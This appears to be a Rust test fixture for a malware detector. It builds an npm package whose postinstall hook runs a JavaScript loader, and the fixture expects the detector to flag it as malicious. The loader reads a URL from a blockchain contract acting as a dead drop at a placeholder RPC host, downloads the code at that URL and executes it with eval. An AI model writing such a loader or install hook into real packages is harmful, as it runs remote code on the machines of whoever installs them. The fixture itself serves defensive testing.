//! An npm `postinstall` that asks a contract on a chain where its next stage is, fetches that and evaluates it.
//!
//! Must be found: the stage that came by way of the dead drop reports that it ran.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const STAGE_JS: &str = r"const https = require('https');
const call = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x' + '1'.repeat(40), data: '0xb68d1809' }, 'latest'] };
const read = (answer) => new Promise((done) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => done(text));
});
const request = https.request('https://rpc.chain.example/', { method: 'POST', headers: { 'content-type': 'application/json' } }, async (answer) => {
  const bytes = Buffer.from(JSON.parse(await read(answer)).result.slice(2), 'hex');
  const length = bytes.readUInt32BE(60);
  const next = bytes.subarray(64, 64 + length).toString();
  https.get(next, async (stage) => (0, eval)(await read(stage)));
});
request.on('error', () => {});
request.end(JSON.stringify(call));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("chain-units", "0.9.1")
        .file("stage.js", STAGE_JS)
        .script("postinstall", "node stage.js");
    package.specimen("npm-dead-drop", Expect::malicious(&["downloaded-code-ran"]))
}
